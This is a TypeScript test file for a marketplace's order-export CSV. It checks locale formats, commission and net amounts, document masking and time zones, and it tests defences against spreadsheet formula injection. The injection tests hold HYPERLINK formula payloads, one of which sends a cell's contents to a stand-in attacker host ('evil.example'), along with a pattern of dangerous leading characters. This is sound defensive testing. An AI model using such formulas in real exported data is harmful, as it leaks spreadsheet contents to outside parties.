import fc from "fast-check";
import { createTranslator } from "next-intl";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import type { Locale } from "@/i18n/config";
import { order as specOrder } from "@marketplace/api/spec-examples";
import { orderSchema } from "@marketplace/api/schemas/order";
import type { Order } from "@marketplace/api/schemas/order";
import { catalogues } from "@/messages";
import type { Messages } from "@/messages";
import { EXPORT_COLUMNS, exportHead, exportLines } from "./export-csv";
import { exportDay } from "@/lib/csv/dialects";
import type { ExportColumn } from "./export-csv";

const order = (change: (order: Order) => void = () => {}): Order => {
  const parsed = orderSchema.parse(structuredClone(specOrder));
  change(parsed);
  return parsed;
};

const SAO_PAULO = "America/Sao_Paulo";

/** The column titles as the route gives them: the request's catalogue, orders.export.columns. */
const titles = (locale: Locale) => {
  const t = createTranslator({ locale, messages: catalogues[locale] as Messages, namespace: "orders.export.columns" });
  return (column: ExportColumn) => t(column);
};

/** A whole file of these orders, as the route writes it. */
const file = (locale: Locale, orders: Order[], timeZone = SAO_PAULO) =>
  exportHead(locale, titles(locale)) + exportLines(orders, { locale, timeZone });

const read = (text: string, delimiter: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter, skipEmptyLines: true }).data;

describe("orders export CSV", () => {
  it("in pt-BR: a byte-order mark, `;`, comma decimals and Portuguese headers", () => {
    const text = file("pt-BR", [order()]);
    expect(text.startsWith("\uFEFF")).toBe(true);
    const [header, row] = read(text, ";");
    expect(header).toEqual(
      expect.arrayContaining([
        "pedido",
        "status",
        "cliente",
        "documento",
        "total",
        "frete",
        "desconto",
        "comissão",
        "frete pago por você",
        "líquido estimado",
        "rastreio",
        "enviar até",
      ]),
    );
    const total = row![header!.indexOf("total")]!;
    expect(total).toMatch(/^\d+,\d{2}$/);
  });

  it("in English: `,`, points and the accountant's headers", () => {
    const [header, row] = read(file("en", [order()]), ",");
    expect(header).toEqual([
      "order",
      "status",
      "created",
      "updated",
      "approved",
      "customer",
      "document",
      "items",
      "total",
      "freight",
      "discount",
      "commission",
      "freight you pay",
      "net (estimated)",
      "currency",
      "delivery status",
      "tracking",
      "ship by",
    ]);
    expect(row![header!.indexOf("total")]).toMatch(/^\d+\.\d{2}$/);
  });

  it("gives the order page's commission, freight the seller pays and estimated net, in the total's number format", () => {
    // The spec's example: R$ 109,80 − R$ 12,00 − R$ 10,00 (no freight shared) = R$ 87,80.
    const [header, row] = read(file("pt-BR", [order()]), ";");
    const cell = (title: string) => row![header!.indexOf(title)];
    expect([cell("total"), cell("comissão"), cell("frete pago por você"), cell("líquido estimado")]).toEqual([
      "109,80",
      "12,00",
      "10,00",
      "87,80",
    ]);

    // Half the freight shared, and a commission in thousandths: converted to the order's hundredths, rounded up.
    const shared = order((o) => {
      o.amounts.freight.shared = 500;
      o.amounts.comission = { currency: "BRL", normalizer: 1000, type: "value", total: 12_345 };
    });
    const [enHeader, enRow] = read(file("en", [shared]), ",");
    const enCell = (title: string) => enRow![enHeader!.indexOf(title)];
    expect([enCell("total"), enCell("commission"), enCell("freight you pay"), enCell("net (estimated)")]).toEqual([
      "109.80",
      "12.35",
      "5.00",
      "92.45",
    ]);
  });

  it("leaves the net empty, and gives the platform's commission, when a deduction is in another currency", () => {
    const [header, row] = read(
      file("en", [order((o) => (o.amounts.comission = { currency: "USD", normalizer: 100, type: "value", total: 250 }))]),
      ",",
    );
    const cell = (title: string) => row![header!.indexOf(title)];
    expect([cell("commission"), cell("freight you pay"), cell("net (estimated)")]).toEqual(["2.50", "", ""]);
  });

  it("masks the customer's document as the order page does, and gives dates in the seller's time zone", () => {
    const created = (o: Order) => {
      o.customer.document_number = "12345678909";
      o.created_at = "2026-11-22T02:30:00.000Z";
    };
    const [header, row] = read(file("en", [order(created)]), ",");
    expect(row![header!.indexOf("document")]).toBe("•••.•••.•••-09");
    expect(row![header!.indexOf("created")]).toBe("2026-11-21 23:30");
    // The same instant for a seller in Manaus (UTC-4), in Portuguese.
    const [ptHeader, ptRow] = read(file("pt-BR", [order(created)], "America/Manaus"), ";");
    expect(ptRow![ptHeader!.indexOf("criado em")]).toBe("2026-11-21 22:30");
  });

  it("never lets a customer's name become a spreadsheet formula", () => {
    const [, row] = read(file("en", [order((o) => (o.customer.name = '=HYPERLINK("http://evil")'))]), ",");
    expect(row![5]!.startsWith("=")).toBe(false);
  });

  it("names the file by the seller's day", () => {
    // 02:30 UTC on the 23rd: still the 22nd in São Paulo.
    expect(exportDay(new Date("2026-11-23T02:30:00.000Z"), SAO_PAULO)).toBe("2026-11-22");
    expect(exportDay(new Date("2026-11-23T02:30:00.000Z"), "UTC")).toBe("2026-11-23");
  });
});

// OWASP "CSV injection": what a spreadsheet runs as a formula when a cell starts with it, written
// out here rather than imported so the test does not share the rule it checks.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
/** Every dangerous first character, alone before the payload and followed by a line break. */
const PAYLOADS = ["=", "+", "-", "@", "\t", "\r"].flatMap((start) => {
  const formula = start + FORMULA.slice(1);
  return [formula, `${formula}\n`, `${formula}\r\n`, `${formula}\nsecond line`, `${formula}\r\nsecond line`];
});
/** The columns whose text comes from the platform; the others are dates and numbers the dashboard writes. */
const PLATFORM_TEXT: readonly ExportColumn[] = ["order", "status", "customer", "document", "currency", "deliveryStatus", "tracking"];
const column = (name: ExportColumn) => EXPORT_COLUMNS.indexOf(name);
const DELIMITERS: Record<Locale, string> = { "pt-BR": ";", en: "," };

/** Every row of a file as a real CSV reader sees it, header included. */
const cells = (text: string, locale: Locale) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: DELIMITERS[locale], newline: "\r\n", skipEmptyLines: true }).data;

/** An order whose platform text is `payload` wherever the platform could put a seller's customer's words. */
const hostile = (payload: string) =>
  order((o) => {
    o.id = payload;
    o.customer.name = payload;
    for (const delivery of o.deliveries) {
      delivery.status = payload;
      delivery.shipping.tracking.number = payload;
    }
    o.amounts.discount.total = -1250;
  });

describe("orders export CSV: formulas", () => {
  it.each(["pt-BR", "en"] as const)("in %s, no platform text reaches the spreadsheet as a formula, line breaks or not", (locale) => {
    const [header, ...rows] = cells(file(locale, PAYLOADS.map(hostile)), locale);
    expect(header).toHaveLength(EXPORT_COLUMNS.length);
    expect(rows).toHaveLength(PAYLOADS.length);
    rows.forEach((row, index) => {
      expect(row).toHaveLength(EXPORT_COLUMNS.length);
      for (const name of PLATFORM_TEXT)
        expect(row[column(name)], `${name} of ${JSON.stringify(PAYLOADS[index])}`).not.toMatch(FORMULA_START);
      // The text itself is kept, behind the apostrophe that makes it text.
      expect(row[column("customer")]).toBe(`'${PAYLOADS[index]}`);
      expect(row[column("tracking")]).toBe(`'${PAYLOADS[index]}`);
    });
  });

  it.each([
    ["pt-BR", "-12,50", /^-?\d+,\d{2}$/],
    ["en", "-12.50", /^-?\d+\.\d{2}$/],
  ] as const)("in %s, the amounts the dashboard writes stay plain numbers, a negative one too", (locale, discount, number) => {
    const [, row] = cells(file(locale, [hostile(PAYLOADS[0]!)]), locale);
    expect(row![column("discount")]).toBe(discount);
    for (const name of ["total", "freight", "discount", "commission", "sellerFreight", "net", "items"] as const)
      expect(row![column(name)]).toMatch(name === "items" ? /^\d+$/ : number);
  });

  it("escapes the full-width signs some spreadsheets read as formulas", () => {
    const payloads = ["\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"].map((start) => `${start}1+1`);
    const [, ...rows] = cells(file("en", payloads.map(hostile)), "en");
    expect(rows.map((row) => row[column("customer")])).toEqual(payloads.map((payload) => `'${payload}`));
  });

  it("reads back any customer name and tracking number as written, never as a formula", () => {
    const text = fc.string({ unit: fc.constantFrom("a", "1", " ", "=", "+", "-", "@", "\t", "\r", "\n", '"', ",", ";", "'", "\uFF1D") });
    fc.assert(
      fc.property(text, text, fc.constantFrom<Locale>("pt-BR", "en"), (name, tracking, locale) => {
        const written = order((o) => {
          o.customer.name = name;
          for (const delivery of o.deliveries) delivery.shipping.tracking.number = tracking;
        });
        const [, row] = cells(file(locale, [written]), locale);
        expect(row).toHaveLength(EXPORT_COLUMNS.length);
        const kept = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);
        expect(row![column("customer")]).toBe(kept(name));
        expect(row![column("tracking")]).toBe(kept(tracking));
      }),
    );
  });
});
